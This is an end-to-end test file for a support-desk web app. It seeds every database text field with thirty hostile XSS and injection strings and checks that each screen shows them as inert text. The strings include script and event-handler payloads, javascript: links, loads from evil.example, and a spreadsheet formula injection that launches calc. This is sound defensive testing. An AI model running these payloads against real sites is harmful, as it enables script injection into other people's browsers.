"""Scenario E6: thirty hostile words in every field that is shown anywhere, on every screen.

People leave a mark wherever a text can be left; then the mark in the tables becomes the words, past
whatever the doors would refuse. Every screen is opened and read: nothing runs, nothing leaves the
desk, nothing asks the browser's policy for leave, and the words stand there as they are.
"""

import json
from typing import Any

from playwright.sync_api import BrowserContext, Page, expect
from sqlalchemy import Column, Text, text

from base.db import Base, Json, Session
from handoff.setup_tables import CannedReply, Skill, Team
from handoff.web.desk import DESK
from tests import files
from tests.e2e.conftest import NewPage, SignIn
from tests.e2e.live_desk import LiveDesk
from tests.e2e.test_console import accept, agent_online, reply
from tests.e2e.test_widget import write
from tests.fakes.bot import reading, saying, understand_plainly

EVIL = "https://evil.example/"
RUN = "window.ran=1"
WORDS = [
    f"<script>{RUN}</script>",
    f'<script src="{EVIL}a.js"></script>',
    f'<img src=x onerror="{RUN}">',
    f'<img src="{EVIL}b.png">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<a href="javascript:{RUN}">here</a>',
    f"javascript:{RUN}//",
    f"JaVaScRiPt:{RUN}//https://a.example",
    f'"><b onmouseover="{RUN}">bold</b>',
    f"' onfocus='{RUN}' autofocus='",
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    f'<iframe src="{EVIL}c"></iframe>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}d">',
    f'<link rel="stylesheet" href="{EVIL}e.css">',
    f"<style>@import '{EVIL}f.css';*{{display:none}}</style>",
    f'<div style="background:url({EVIL}g.png)">x</div>',
    f"url({EVIL}h.png)",
    f'<object data="{EVIL}i"></object><embed src="{EVIL}j">',
    f'<video poster="{EVIL}k" onerror={RUN}><source src=x></video>',
    f'<form action="{EVIL}l"><button autofocus onfocus={RUN}>go</button></form>',
    f"<details open ontoggle={RUN}>x</details>",
    f"${{{RUN}}} {{{{{RUN}}}}} #{{{RUN}}} <%= {RUN} %>",
    f"[click](javascript:{RUN}) ![x]({EVIL}m.png)",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"--><!--<img src='{EVIL}n?",
    f"</textarea></title></script><img src=x onerror={RUN}>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"\u202e<script>{RUN}</script>\u202c\u2028=cmd|' /C calc'!A0",
]
MARK, MANY = "qzxmark", [f"qzx{number:02}z" for number in range(30)]
ALL = " ".join(WORDS)
#: What people name, beside what they leave the mark in.
NAMED = [
    ("queue", "name"),
    ("calendar", "name"),
    ("service_target", "name"),
    ("customer", "name"),
    ("agent", "name"),
    ("user", "name"),
    ("decision", "rule"),
    ("decision", "words"),
]
SCREENS = [
    ("/supervise", "supervisor", []),
    ("/setup", "supervisor", ["Agents", "Teams", "Skills", "Hours", "Targets", "Canned replies"]),
    ("/workbench", "trainer", []),
    ("/strategy", "manager", ["Why?"]),
    ("/dashboard", "manager", []),
]


def test_thirty_hostile_words_are_words_on_every_screen(
    new_page: NewPage, sign_in: SignIn, desk: LiveDesk
) -> None:
    customer, agent = people_leave_marks(new_page, sign_in, desk)
    draft_of_rules(sign_in("Nora", "/strategy", "manager"))
    desk.run(desk.app[DESK].database.write(marks_become_words))
    left: list[str] = []
    for page in (customer, agent):
        watch(page.context, desk, left)
        page.reload()
    turns = customer.locator(".turn.customer .text")
    expect(turns.filter(has_text=WORDS[0]).first).to_be_visible()
    said = "\n".join(turns.all_text_contents())
    assert [word for word in WORDS if word not in said] == []
    expect(agent.get_by_role("log")).to_contain_text(WORDS[2])
    seen = agent.get_by_role("log").inner_text()
    assert [word for word in WORDS if plain(word) not in plain(seen)] == []
    expect(agent.get_by_label("Reply to the customer")).to_be_focused()
    agent.keyboard.press("Escape")
    for key in ("1", "2", "3"):
        agent.keyboard.press(key)
        agent.wait_for_load_state("networkidle")
    for key in ("x", "b", "c", "n"):
        agent.keyboard.press(key)
        agent.get_by_role("dialog").wait_for()
        agent.keyboard.press("Escape")
        expect(agent.get_by_role("dialog")).to_have_count(0)
    agent.get_by_label("Reply to the customer").press_sequentially("/")
    expect(agent.locator("#canned")).to_contain_text(WORDS[0])
    for path, role, tabs in SCREENS:
        read_screen(sign_in, desk, left, path, role, tabs)
    for page in (customer, agent):
        nothing_ran(page)
    assert left == []


def people_leave_marks(new_page: NewPage, sign_in: SignIn, desk: LiveDesk) -> tuple[Page, Page]:
    """A customer with an agent, after a hand-back; another one who left a message."""
    speaks_in_marks(desk)
    customer = new_page("/chat")
    for first in (0, 10, 20):
        write(customer, " ".join(MANY[first : first + 10]))
        expect(customer.locator(".turn.bot")).to_have_count(first // 10 + 1)
    write(customer, f"hmm {MARK}")
    picture = {"name": f"{MARK}.png", "mimeType": "image/png", "buffer": files.png()}
    customer.locator("input[type=file]").set_input_files(picture)
    write(customer, f"I want a human {MARK}")
    agent = agent_online(sign_in)
    accept(agent)
    reply(agent, f"Let me see {MARK}")
    expect(customer.get_by_text(f"Let me see {MARK}")).to_be_visible()
    agent.keyboard.press("Escape")
    agent.keyboard.press("n")
    agent.get_by_role("dialog").locator("textarea").fill(f"a note {MARK}")
    agent.get_by_role("dialog").get_by_role("button", name="Add the note").click()
    expect(agent.get_by_role("dialog")).to_have_count(0)
    hand_back(agent)
    expect(customer.get_by_role("button", name="Talk to a person")).to_be_visible()
    customer.get_by_role("button", name="Talk to a person").click()
    accept(agent)
    leaves_a_message(new_page("/chat"))
    return customer, agent


def speaks_in_marks(desk: LiveDesk) -> None:
    """The bot repeats what it hears, on a card with a button, too, and thinks that it is a name."""
    card = {"title": MARK, "subtitle": MARK, "lines": [{"label": MARK, "value": MARK}], "url": None}
    replies = [{"title": MARK, "payload": "/cancel_order"}]
    entity = {"entity": "name", "value": MARK, "start": 0, "end": 5, "confidence": 1.0}

    desk.bot.responds = lambda turn, _: saying(
        turn, messages=[{"text": f"{MARK} {turn.text}", "card": card, "quick_replies": replies}]
    )
    desk.bot.understands = lambda turn: (
        reading(turn, "order_status", entities=[{**entity, "extractor": "x"}])
        if turn.text.startswith("qzx")
        else understand_plainly(turn)
    )


def hand_back(agent: Page) -> None:
    agent.keyboard.press("Escape")
    agent.keyboard.press("b")
    dialog = agent.get_by_role("dialog")
    for field in dialog.locator("textarea, input[name=promise]").all():
        field.fill(MARK)
    dialog.locator("input[name=due]").fill("2020-01-01T10:00")
    dialog.get_by_role("button", name="Hand back").click()
    expect(dialog).to_have_count(0)


def leaves_a_message(page: Page) -> None:
    write(page, "I want a human")
    page.get_by_role("button", name="Leave a message").click()
    page.get_by_label("What is it about?").fill(f"about {MARK}")
    page.get_by_label("E-mail address or telephone number").fill("ann@example.com")
    page.get_by_role("button", name="Send and stop waiting").click()
    expect(page.get_by_text("We have your message and will answer.")).to_be_visible()


def draft_of_rules(manager: Page) -> None:
    manager.evaluate(
        """async (mark) => {
            const send = (path, body, method = "POST") => fetch("/api/strategy/rulesets" + path, {
                method, headers: { "Content-Type": "application/json" }, body: JSON.stringify(body),
            }).then((answer) => answer.json());
            const { ruleset: { id } } = await send("", { title: mark });
            const when = [{ fact: "market", op: "is", value: mark }];
            const rules = [{ name: mark, when, then: { queue: "support" } }];
            await send(`/${id}`, { revision: 1, tables: { routing: { rules } } }, "PATCH");
        }""",
        MARK,
    )


def marks_become_words(session: Session) -> None:
    """In all tables, whatever the doors would have said."""
    session.merge(CannedReply(id="hostile", name=ALL, texts={"en": ALL, "de": ALL}))
    session.merge(Team(id="hostile", name=ALL))
    session.merge(Skill(code="hostile", name=ALL))
    session.flush()
    for table in Base.metadata.tables.values():
        for column in table.columns:
            if isinstance(column.type, Text | Json):
                replace(session, table.name, column)
    for table_name, column_name in NAMED:
        session.execute(text(f'UPDATE "{table_name}" SET {column_name} = :all'), {"all": ALL})


def replace(session: Session, table: str, column: Column[Any]) -> None:
    for mark, word in [(MARK, ALL), *zip(MANY, WORDS, strict=True)]:
        written = json.dumps(word)[1:-1] if isinstance(column.type, Json) else word
        change = f'UPDATE "{table}" SET "{column.name}" = replace("{column.name}", :mark, :word)'
        session.execute(text(change), {"mark": mark, "word": written})


def watch(context: BrowserContext, desk: LiveDesk, left: list[str]) -> None:
    """Note what runs in the pages that are opened from now on, and what leaves the desk."""
    context.add_init_script(
        "window.ran = 0; for (const name of ['alert', 'confirm', 'prompt', 'open'])"
        " window[name] = () => { window.ran = name; };"
        "window.refused = []; addEventListener('securitypolicyviolation',"
        " (event) => refused.push(event.violatedDirective + ' ' + event.blockedURI), true);"
    )

    def heard(request: Any) -> None:
        if not request.url.startswith((desk.origin, "data:", "blob:")):
            left.append(request.url)

    context.on("request", heard)


def nothing_ran(page: Page) -> None:
    assert page.evaluate("[window.ran, ...window.refused]") == [0]


def plain(words: str) -> str:
    """As it is read, not as it is broken into lines."""
    return " ".join(words.split())


def read_screen(
    sign_in: SignIn, desk: LiveDesk, left: list[str], path: str, role: str, tabs: list[str]
) -> None:
    page = sign_in(f"Reader{role}{path.strip('/')}", path, role)
    watch(page.context, desk, left)
    page.reload()
    page.wait_for_load_state("networkidle")
    if path != "/dashboard":  # which shows numbers
        expect(page.locator("body")).to_contain_text("<script>")  # masked in the workbench
    for tab in tabs:
        page.get_by_role("tab", name=tab).or_(page.get_by_role("link", name=tab)).first.click()
        expect(page.locator("main")).to_contain_text("<script>")
    nothing_ran(page)
